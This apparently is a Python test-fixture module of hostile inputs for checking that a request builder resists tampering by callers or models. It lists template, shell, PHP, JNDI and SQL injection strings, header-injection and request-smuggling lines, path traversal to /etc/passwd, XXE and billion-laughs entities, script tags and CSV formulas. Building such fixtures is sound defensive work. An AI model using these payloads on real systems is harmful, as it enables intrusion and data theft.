"""What a caller or a model might say to make a request another one than the operator wrote."""

from __future__ import annotations

from typing import Any, Final

SECRET: Final = "s3cr3t-of-the-tests-0123456789"

TEMPLATES: Final[dict[str, str]] = {
    "jinja": "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# c #}",
    "ours": "{{ v }}{{ w }}{{ call.W }}",
    "our secret": "{{ secret.key }}",
    "our secret in halves": "{{ secret.{{ v }}key }} {{",
    "go": '{{ .Env.HOME }}{{ template "x" . }}{{- end -}}',
    "shell": "$(id) `id` ${HOME} ; rm -rf / | cat & || && > x < y \\",
    "php": "<?php system($_GET['c']); ?><?= 1 ?>",
    "erb": "<%= `id` %><% end %>",
    "expression language": "${7*7} #{7*7} *{7*7} ~{x} @{x} %{7*7} ${jndi:ldap://h/x}",
    "format strings": "%s %n %x {0.__class__} {v!r:>{w}} %(v)s $v ${v} \\1 \\g<0>",
    "sql": "'; DROP TABLE calls; -- \" OR 1=1 /*",
}

LINES: Final[dict[str, str]] = {
    "cr lf": "a\r\nb",
    "lf": "a\nb",
    "cr": "a\rb",
    "a header": "x\r\nX-Injected: yes\r\n",
    "a request": "x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /admin HTTP/1.1\r\nHost: h\r\n\r\n",
    "the end of the head": "\r\n\r\n<html>",
    "a folded line": "x\r\n continued",
    "chunks": "0\r\n\r\nPOST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n",
    "encoded cr lf": "x%0d%0aX-Injected: yes",
    "encoded twice": "x%250d%250aX-Injected: yes",
    "letters that end in 0d 0a": "x\u010d\u010aX-Injected: yes",
    "next line": "a\x85b",
    "line separators": "a\u2028b\u2029c",
    "vertical tab, form feed": "a\x0bb\x0cc",
    "escape": "\x1b[2J\x1b]0;x\x07",
    "delete and backspace": "a\x7f\x08b",
    "tab": "a\tb",
}

TRAVERSAL: Final[dict[str, str]] = {
    "dots": "..",
    "dot": ".",
    "up": "../../etc/passwd",
    "up and down": "a/../../b",
    "a slash": "1/refund",
    "slashes": "//evil.example/x",
    "backslashes": "..\\..\\windows",
    "mixed": "..\\/..",
    "encoded dots": "%2e%2e",
    "encoded up": "%2e%2e%2f%2e%2e%2fetc",
    "encoded slash": "..%2f..%2fetc",
    "encoded backslash": "..%5c..%5cetc",
    "encoded twice, up": "%252e%252e%252fetc",
    "encoded thrice": "%25252e%25252e%25252fetc",
    "encoded five times": "%2525252525252e%2525252525252e%2525252525252f",
    "half encoded": ".%2e/x",
    "a parameter": "..;/admin",
    "a parameter with a name": "..;jsessionid=1",
    "an encoded parameter": "..%3b/admin",
    "doubled": "....//....//etc",
    "three dots": "...",
    "a trailing space": ".. ",
    "a leading space": " ..",
    "overlong, two bytes": "%c0%ae%c0%ae%c0%afetc",
    "overlong, three bytes": "%e0%80%ae%e0%80%ae%e0%80%afetc",
    "overlong, four bytes": "%f0%80%80%ae%f0%80%80%ae%f0%80%80%afetc",
    "overlong backslash": "..%c1%9c..",
    "escaped unicode": "%u002e%u002e%u2215%u002f",
    "full-width": "\uff0e\uff0e\uff0fetc",
    "full-width, encoded": "%ef%bc%8e%ef%bc%8e%ef%bc%8fetc",
    "full-width percent": "\uff052e\uff052e\uff052f",
    "full-width backslash": "\uff0e\uff0e\uff3c",
    "leaders": "\u2024\u2024",
    "two dot leader": "\u2025",
    "two dot leader with slash": "\u2025\uff0fetc",
    "small full stops": "\ufe52\ufe52\ufe68",
    "a sign with a slash in it": "\u2100",
}

ADDRESSES: Final[dict[str, str]] = {
    "another query": "x?admin=1&q=2",
    "another parameter": "x&admin=1;admin=2",
    "a fragment": "x#y",
    "a host": "http://evil.example/",
    "a login": "x@evil.example:80",
    "plus and percent": "a+b%20c%",
    "a broken percent": "%zz%2",
    "an empty text": "",
    "spaces": "   ",
    "equals": "==&&==",
    "brackets": "a[]=1&a[b]=2",
}

UNICODE: Final[dict[str, str]] = {
    "right to left": "\u202egnp.exe\u202c\u2066x\u2069",
    "zero width": "a\u200bd\u200cm\u200di\u2060n\ufeff",
    "a homoglyph": "\u0430dmin",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334",
    "astral": "\U0001f4de\U0001f469\u200d\U0001f4bb",
    "the last": "\U0010ffff",
    "no characters": "\ufffe\uffff\ufdd0",
    "private": "\ue000\uf8ff",
    "nul": "a\x00b",
    "nul at the end": "admin\x00",
    "encoded nul": "x%00.pdf",
    "a lone surrogate": "a\ud800b",
    "the other half": "\udc00",
    "halves in the wrong order": "\udc00\ud800",
    "an escaped surrogate": "\\ud800",
    "a byte order mark": "\ufeffx",
    "soft hyphen, tags": "a\u00ad\U000e0041",
    "upper cases that change": "\u0130\u0131\u017f\u212a\u1e9e",
}

DATA: Final[dict[str, str]] = {
    "json that ends": '", "admin": true, "x": "',
    "json that ends later": '"}], "admin": [{"',
    "json": '{"a": [1, {"b": null}]}',
    "backslash": "\\",
    "backslash and quote": '\\"',
    "escapes": "\\u0022\\n\\x22",
    "a comment": "*/ /* // -- #",
    "an element": "</v><admin>1</admin><v>",
    "an attribute": "x\" onload='y' z=\"",
    "an entity": "&xxe;&lt;&#60;&amp;",
    "a doctype": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "billion laughs": '<!ENTITY l "ha"><!ENTITY m "&l;&l;&l;">&m;',
    "the end of cdata": "]]><admin/><![CDATA[",
    "the end of a comment": "--><admin/><!--",
    "an instruction": "<?xml version='1.0'?><?xml-stylesheet href='x'?>",
    "script": "<script>alert(1)</script>",
    "a boundary": "\r\n--part-0123456789abcdef0123456789abcdef--\r\n",
    "a part": '\r\n--x\r\nContent-Disposition: form-data; name="admin"\r\n\r\n1\r\n--x--',
    "a parameter of a part": '"; filename="../../x.php"; name="admin',
    "a csv formula": "=cmd|' /C calc'!A0,\"x\"",
    "names of javascript": "__proto__",
    "a constructor": "constructor.prototype",
    "names of python": "__class__.__init__.__globals__",
    "nan": "NaN",
    "infinity": "-Infinity",
    "a huge number": "9" * 400,
    "null": "null",
    "true": "true",
    "a phone number": "+49 (30) 1234-567;ext=9",
}

SIZES: Final[dict[str, str]] = {
    "60 KB": "x" * 60_000,
    "60 KB of quotes": '"' * 20_000 + "<" * 10_000,
    "1 MB": "y" * 1_000_000,
    "1 MB of braces": "{{" * 500_000,
    "1 MB of percents": "%25" * 333_333,
}

TEXTS: Final[dict[str, str]] = {**TEMPLATES, **LINES, **TRAVERSAL, **ADDRESSES, **UNICODE, **DATA, **SIZES}


def _nested(value: Any, levels: int, wrap: Any) -> Any:
    for _ in range(levels):
        value = wrap(value)
    return value


# What only a model can give: its arguments are JSON, or what its library makes of it.
OBJECTS: Final[dict[str, Any]] = {
    "a list": ["a", "../b", '"', None],
    "an object": {"a/b": "{{ secret.key }}", 'x"y': ["\r\n"], "z": {"&": "<"}},
    "javascript's names": {"__proto__": {"admin": True}, "constructor": {"prototype": {"admin": True}}},
    "python's names": {"__class__": "x", "__init__": {"__globals__": []}},
    "our words": {"$ref": "file:///etc/passwd", "source": "secret", "name": "key"},
    "an empty object": {},
    "an empty list": [],
    "200 levels": _nested("x", 200, lambda each: {"a": each}),
    "300 levels": _nested("x", 300, lambda each: {"a": each}),
    "300 levels of lists": _nested(1, 300, lambda each: [each]),
    "a big number": 2**63,
    "a huge number": 10**400,
    "a small number": -(2**63),
    "a fraction": 1e308,
    "not a number": float("nan"),
    "infinity": float("inf"),
    "yes": True,
    "nothing": None,
    "a surrogate within": {"a": ["\ud800"]},
    "a surrogate as a name": {"\udfff": 1},
    "a nul within": {"a\x00": "b\x00"},
}
